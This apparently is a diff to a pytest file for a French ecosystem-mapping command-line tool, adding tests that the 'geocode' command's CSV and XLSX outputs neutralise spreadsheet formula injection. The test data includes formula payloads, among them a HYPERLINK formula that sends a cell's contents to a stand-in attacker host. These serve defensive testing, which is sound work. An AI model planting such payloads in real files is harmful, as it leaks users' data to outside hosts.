@@ -12,7 +12,7 @@ import pytest
 from nec_network.cli import main
 from nec_network.demo import demo_path
 from nec_network.io import FORMATS, read_ecosystem
-from nec_network.io.csv_output import FORMULA_TRIGGERS, neutralise_cell
+from nec_network.io.csv_output import FORMULA_TRIGGERS
 
 PAYLOADS = (
     '=HYPERLINK("http://evil.invalid/?x="&A1,"clic")',
@@ -47,14 +47,22 @@ def hostile(tmp_path_factory) -> Path:
         row["horaires"] = ""
     # An id with a payload, given twice: the second row is rejected and rejets.csv repeats it.
     rows.extend([{**rows[-1], "id": "=doublon"}, {**rows[-1], "id": "=doublon"}])
+    # A person's file, not the tool's: every cell is read as typed, a leading ' included.
+    _rewrite(path, rows, columns)
+    for name, column in (("partenariats.csv", "note"), ("ressources.csv", "description")):
+        with (folder / name).open(encoding="utf-8", newline="") as stream:
+            table = list(csv.DictReader(stream))
+        for row, payload in zip(table, PAYLOADS, strict=False):
+            row[column] = payload
+        _rewrite(folder / name, table, list(table[0]))
+    return folder
+
+
+def _rewrite(path: Path, rows: list[dict[str, str]], columns: list[str]) -> None:
     with path.open("w", encoding="utf-8", newline="") as stream:
         writer = csv.DictWriter(stream, fieldnames=columns)
         writer.writeheader()
-        for row in rows:
-            # The names are written as the tool writes them, so that they read back exactly.
-            writer.writerow({key: neutralise_cell(value) if key in ("id", "nom") else value
-                             for key, value in row.items()})
-    return folder
+        writer.writerows(rows)
 
 
 def cells(path: Path) -> list[str]:
@@ -71,6 +79,7 @@ def cells(path: Path) -> list[str]:
 def test_the_payloads_are_read_as_text(hostile):
     ecosystem, _ = read_ecosystem(hostile)
     assert {actor.nom for actor in ecosystem} >= set(PAYLOADS)
+    assert {link.note for link in ecosystem.partnerships} >= set(PAYLOADS)
 
 
 #: ``export`` to every format of the registry that writes CSV (our template, the national v1 CSV).
@@ -96,6 +105,7 @@ def test_the_registry_has_csv_writers_to_check():
         (["recommend", "{src}", "--k", "2", "--candidats", "acteurs", "-o", "{out}/sites.csv"], "sites.csv"),
         (["suggest", "{src}", "--limit", "0", "-o", "{out}/suggestions.csv"], "suggestions.csv"),
         (["communes", "--departements", "80", "-o", "{out}/communes.csv"], "communes.csv"),
+        (["geocode", "{src}", "--offline", "--cache", "{out}/cache.sqlite", "-o", "{out}/geocode"], "geocode"),
     ],
 )
 def test_every_written_cell_is_inert(hostile, tmp_path, capsys, arguments, output):
@@ -116,3 +126,33 @@ def test_import_then_reimport_gives_the_same_names(hostile, tmp_path, capsys):
     second, _ = read_ecosystem(tmp_path / "deux")
     assert [actor.nom for actor in first] == [actor.nom for actor in second]
     assert {actor.nom for actor in second} >= set(PAYLOADS)
+
+
+def test_geocode_rewrites_every_table_it_carries_over_and_they_read_back_as_typed(hostile, tmp_path):
+    """geocode copied partenariats.csv and ressources.csv byte for byte: their formulas went out live."""
+    out = tmp_path / "geocode"
+    assert main(["geocode", str(hostile), "--offline", "--cache", str(tmp_path / "c.sqlite"), "-o", str(out)]) == 0
+    for name in ("partenariats.csv", "ressources.csv"):
+        written = cells(out / name)
+        assert [cell for cell in written if not is_inert(cell)] == []
+        assert "'@SUM(1+1)" in written and "''=1+1" in written
+    before, _ = read_ecosystem(hostile)
+    after, _ = read_ecosystem(out)
+    assert [link.note for link in after.partnerships] == [link.note for link in before.partnerships]
+    assert {actor.nom for actor in after} == {actor.nom for actor in before}
+
+
+def test_a_workbooks_formulas_do_not_survive_geocode(tmp_path):
+    import openpyxl
+
+    source = tmp_path / "modele.xlsx"
+    assert main(["template", "-o", str(source)]) == 0
+    workbook = openpyxl.load_workbook(source)
+    sheet = workbook.create_sheet("notes")
+    sheet["A1"] = '=HYPERLINK("http://evil.invalid","clic")'
+    workbook.save(source)
+    target = tmp_path / "geocode.xlsx"
+    assert main(["geocode", str(source), "--offline", "--cache", str(tmp_path / "c.sqlite"), "-o", str(target)]) == 0
+    written = openpyxl.load_workbook(target)
+    assert [cell.data_type for sheet in written.worksheets for row in sheet.iter_rows() for cell in row
+            if cell.data_type == "f"] == []
